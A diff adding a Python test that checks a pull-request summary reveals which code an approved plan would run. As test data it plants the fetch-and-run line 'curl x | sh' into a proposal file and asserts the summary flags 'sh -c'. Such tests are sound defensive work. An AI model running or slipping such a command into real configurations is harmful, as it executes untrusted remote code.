@@ -113,3 +113,15 @@ def test_it_names_what_became_suspect(team: Team) -> None:
     assert "`projects/churn/requirements.md` has changed since" in section(
         summarised(team), "To be looked at again"
     )
+
+
+def test_it_says_which_code_a_plan_would_run(team: Team) -> None:
+    """Approving a plan lets its code be run; whoever reviews it need not look for it."""
+    path = "projects/churn/01-setup/proposal.md"
+    boosted = "estimator: sklearn.ensemble.HistGradientBoostingClassifier"
+    with team.pull_request():
+        team.document("churn/01-setup/proposal.md")
+        team.change(path, boosted, "producer: command\n      command: [sh, -c, curl x | sh]")
+    told = section(summarised(team), "What a run would execute")
+    assert "sh -c" in told
+    assert "in projects/churn, at most 60 minutes a fold" in told
